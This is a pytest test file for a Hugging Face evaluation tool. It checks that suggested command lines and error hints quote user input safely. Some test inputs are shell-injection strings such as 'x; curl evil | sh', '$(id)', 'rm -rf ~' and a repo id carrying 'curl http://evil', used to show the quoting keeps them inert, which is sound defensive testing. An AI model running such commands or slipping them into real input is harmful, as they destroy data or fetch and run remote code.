"""Suggested commands: the user's own with all its options, quoted, and the one that made a proposal."""

from __future__ import annotations

import json
import shlex
from pathlib import Path
from typing import Any

import pytest

from hf_evaluation.core.suggestions import command_line, hf_command, option_text, with_hf
from tests.importing.analysis import ASK, ROWS
from tests.importing.result_documents import lm_eval
from tests.publishing.support import BODY, GSM8K_FILE, HEAD, MODEL, TABLE, Desk, entry, score
from tests.servers.artificial_analysis import AnalysisServer


@pytest.mark.parametrize("word", ["plain", "two words", "x; curl evil | sh", "$(id)", "it's", "", "--apply"])
def test_every_word_arrives_as_it_was(word: str) -> None:
    assert shlex.split(command_line("show", "--repo-id", word)) == ["show", "--repo-id", word]
    expected = [f"--name={word}"] if word.startswith("-") else ["--name", word]
    assert shlex.split(option_text("--name", word)) == expected


def amend(desk: Desk) -> list[str]:
    (row,) = desk.run("get-prs", "--repo-id", MODEL, "--json").document["prs"]
    words = shlex.split(row["amend"])
    assert words[0] == "evaluation_manager.py"
    assert words[-4:] == ["--pr", "1", "--update", "--dry-run"]
    return words[1:-4]


def test_a_card_is_amended_from_the_card_with_its_options(desk: Desk) -> None:
    desk.extract("--create-pr", "--benchmark", "gsm8k", "mmlu", "--date", "2026-10-02")
    assert amend(desk)[:3] == ["extract-readme", "--repo-id", MODEL]
    assert amend(desk)[3:] == ["--benchmark", "gsm8k", "mmlu", "--date", "2026-10-02"]
    desk.run(*amend(desk), "--pr", "1", "--update", "--dry-run", code=None)


def test_an_import_is_amended_by_the_import(desk: Desk) -> None:
    with AnalysisServer(list(ROWS)) as server:
        desk.extra |= {"AA_API_URL": server.url, "AA_API_KEY": "aa-pro-key"}
        desk.run("import-aa", *ASK, "--create-pr")
        words = amend(desk)
        assert words[:5] == ["import-aa", "--creator-slug", "acme", "--model-name", "heron-7b"]
        run = desk.run(*words, "--pr", "1", "--update", "--dry-run", "--json")
        assert {row["status"] for row in run.document["audit"]} == {"present"}


def test_a_result_file_is_amended_from_that_file(desk: Desk) -> None:
    desk.hub.add_dataset("acme/runs", {"x/a.json": json.dumps(lm_eval()).encode()})
    desk.run("import-results", "hf://datasets/acme/runs/x/a.json", "--repo-id", MODEL, "--create-pr")
    words = amend(desk)
    assert words[:4] == ["import-results", "hf://datasets/acme/runs/x/a.json", "--repo-id", MODEL]
    desk.run(*words, "--pr", "1", "--update", "--dry-run")


def test_other_scores_are_amended_by_publish(desk: Desk) -> None:
    desk.publish([score()], "--create-pr")
    assert amend(desk) == ["publish", "--scores", "FILE", "--repo-id", MODEL, "--benchmark", "gsm8k"]


def test_a_conflict_is_answered_with_the_users_own_command(desk: Desk) -> None:
    desk.hub.commit(MODEL, {GSM8K_FILE: entry(value=80.1, notes="8-shot")})
    asked = ("--benchmark", "gsm8k", "--notes", "two words; rm -rf ~", "--create-pr")
    hint = desk.extract(*asked, code=5).document["error"]["hint"]
    given = shlex.join(["extract-readme", "--repo-id", MODEL, *asked, "--update"])
    assert given in hint


def test_a_choice_and_a_card_to_push_are_answered_with_the_users_own_command(
    desk: Desk, tmp_path: Path
) -> None:
    asked = ("--format", "both", "--notes", "a b", "--create-pr")
    card = BODY.replace(b"Heron 7B |", b"Stork 7B |")
    desk.hub.commit(MODEL, {"README.md": HEAD + card})
    error = desk.extract("--table", "1", *asked, code=5).document["error"]
    given = shlex.join(["extract-readme", "--repo-id", MODEL, *asked])
    assert error["hint"] == f"choose: {given} {error['candidates'][0]['option']}"
    path = tmp_path / "README.md"
    path.write_bytes(TABLE)
    error = desk.run("extract-readme", "--readme", str(path), "--repo-id", MODEL, *asked, "--json", code=5)
    assert error.document["error"]["hint"] == f"push the card first, then: {given}"


def test_scores_are_named_by_table_and_line(desk: Desk) -> None:
    """Never by an index that is shown nowhere."""
    base: dict[str, Any] = {"source": {"kind": "readme", "url": f"{desk.hub.endpoint}/x/y"}}
    one = score(**base, table=2, line=41, row=3)
    other = score(**base, table=3, line=57, row=4, value=80.1, raw="80.1")
    rows = desk.audit(one, other)
    assert [row["detail"].partition(" for ")[0] for row in rows] == [
        "table 3, line 57 says 80.1",
        "table 2, line 41 says 82.3",
    ]
    (_, said) = desk.audit(one, score(**base, table=3, line=57))
    assert "the same as table 2, line 41" in said["detail"]
    (first, _) = desk.audit(score(), score(value=80.1, raw="80.1"))
    assert first["detail"].startswith("GSM8K, 8-shot of A report says 80.1")


@pytest.mark.parametrize(
    ("date", "told"),
    [
        ("2030-01-01", "is in the future"),
        ("2026-13-45", "no ISO-8601 date"),
        ("2026-02-30", "no ISO-8601 date"),
        ("2026-11-20T25:00:00", "no ISO-8601 date"),
        ("20261120", "no ISO-8601 date"),
    ],
)
def test_a_date_is_judged_before_anything_is_asked(desk: Desk, date: str, told: str) -> None:
    if date == "2030-01-01":
        date = "2999-01-01"
    before = len(desk.hub.requests)
    error = desk.extract("--date", date, "--create-pr", code=2).document["error"]
    assert told in error["message"]
    assert len(desk.hub.requests) == before


def test_scores_need_no_model_where_the_repository_is_named(desk: Desk) -> None:
    bare = score()
    del bare["model"]
    run = desk.publish([bare], "--dry-run")
    assert [row["status"] for row in run.document["audit"]] == ["new"]
    assert run.document["results"][0]["model"] == MODEL
    run = desk.run("publish", "--scores", "-", "--json", stdin=json.dumps([bare]).encode(), code=2)
    assert "which repository" in run.document["error"]["message"]


def test_a_foreign_id_in_a_hint_is_quoted(desk: Desk) -> None:
    """hostile.md, row 9."""
    data = json.dumps({"repo_id": "acme/x; curl http://evil #", "results": [score()]}).encode()
    run = desk.run("publish", "--scores", "-", "--repo-id", MODEL, "--json", stdin=data, code=5)
    hint = run.document["error"]["hint"]
    assert shlex.split(hint)[-1] == "acme/x; curl http://evil #"


def test_hf_is_suggested_where_it_is_and_else_uvx_brings_it(
    monkeypatch: pytest.MonkeyPatch, desk: Desk
) -> None:
    assert hf_command("auth", "login") == "hf auth login"
    assert desk.extract("--create-pr", user=None, code=3).document["error"]["hint"].startswith("run `hf auth")
    desk.extra["PATH"] = "/nowhere"
    hint = desk.extract("--create-pr", user=None, code=3).document["error"]["hint"]
    assert hint.startswith("run `uvx --from huggingface_hub hf auth login`")
    monkeypatch.setenv("PATH", "/nowhere")
    assert hf_command("jobs", "ps").split()[:4] == ["uvx", "--from", "huggingface_hub", "hf"]
    assert with_hf("nothing of it") == "nothing of it"
